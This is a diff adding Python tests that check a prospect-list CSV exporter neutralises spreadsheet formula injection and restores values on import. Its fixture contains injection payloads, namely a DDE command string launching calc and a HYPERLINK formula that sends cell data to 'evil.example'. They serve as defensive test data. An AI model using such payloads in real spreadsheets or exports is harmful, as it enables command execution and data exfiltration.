@@ -262,3 +262,86 @@ def test_any_stored_prospects_round_trip(rows: list[ExportRow]) -> None:
         for row in rows
     ]
     assert [without_line(record) for record in back] == expected
+
+
+# Issue 9, item 5: cells a spreadsheet would run are guarded, and the guard comes off on import.
+
+FORMULAS = ExportRow(
+    url="https://www.linkedin.com/in/formulas",
+    first_name="=1+1",
+    last_name="+cmd|' /C calc'!A0",
+    full_name="-2+3",
+    company="@SUM(A1:A9)",
+    title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    email="ana@example.org",
+    notes="\t=1",
+    sales_nav_url="'already quoted",
+    extra=(("Location", "=cmd"),),
+    reason="\r=2",
+)
+
+
+def test_cells_a_spreadsheet_would_run_start_with_an_apostrophe() -> None:
+    (cells,) = list(csv.reader(io.StringIO(export_text([FORMULAS]), newline="")))[1:]
+    row = dict(zip(HEADER, cells, strict=True))
+    assert row["First Name"] == "'=1+1"
+    assert row["Last Name"] == "'+cmd|' /C calc'!A0"
+    assert row["Full Name"] == "'-2+3"
+    assert row["Company"] == "'@SUM(A1:A9)"
+    assert row["Title"] == "'" + FORMULAS.title
+    assert row["Notes"] == "'\t=1"
+    assert row["Reason"] == "'\r=2"
+    assert row["Sales Navigator URL"] == "''already quoted"  # reading back drops exactly one
+    assert row["Email"] == "ana@example.org" and row["LinkedIn URL"] == FORMULAS.url
+    assert row["Extra"] == '{"Location": "=cmd"}'  # starts with "{": nothing to run
+    formula_starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for cell in cells if cell.startswith(formula_starts)]
+
+
+def test_the_guard_comes_off_on_import_so_nothing_is_lost() -> None:
+    apostrophes = replace(FORMULAS, url=PLAIN_URL, first_name="'", last_name="''=x", notes="'x")
+    back = read_back(export_text([FORMULAS, apostrophes]))
+    assert [without_line(record) for record in back] == [stored(FORMULAS), stored(apostrophes)]
+
+
+def test_an_apostrophe_the_export_did_not_write_is_kept() -> None:
+    """A cell typed in a spreadsheet as ``'O'Brien`` or ``'123`` is not a guard of ours."""
+    header, cells = list(csv.reader(io.StringIO(export_text([MALLORY]), newline="")))
+    row = dict(zip(header, cells, strict=True))
+    row |= {"Company": "'O'Brien & Co", "Title": "'123", "First Name": "''=x"}
+    edited = io.StringIO(newline="")
+    csv.writer(edited).writerows([header, [row[h] for h in header]])
+    (back,) = read_back(edited.getvalue())
+    assert (back.company, back.title, back.first_name) == ("'O'Brien & Co", "'123", "'=x")
+
+
+def test_other_formats_keep_a_leading_apostrophe() -> None:
+    text = "LinkedIn URL,Company\r\nhttps://www.linkedin.com/in/ana,'=x\r\n"
+    with open_import(text.encode()) as reader:
+        assert reader.format is ImportFormat.GENERIC
+        (record,) = list(reader)
+    assert isinstance(record, ProspectRecord) and record.company == "'=x"
+
+
+formula_texts = st.tuples(st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "''"]), texts)
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.lists(formula_texts.map("".join), min_size=5, max_size=5))
+def test_any_text_behind_a_formula_start_round_trips(values: list[str]) -> None:
+    first, last, company, title, notes = values
+    row = ExportRow(
+        url=PLAIN_URL, first_name=first, last_name=last, company=company, title=title, notes=notes
+    )
+    (cells,) = list(csv.reader(io.StringIO(export_text([row]), newline="")))[1:]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    (back,) = read_back(export_text([row]))
+    expected = replace(
+        row,
+        first_name=known(first),
+        last_name=known(last),
+        company=known(company),
+        title=known(title),
+        notes=known(notes),
+    )
+    assert without_line(back) == stored(expected)
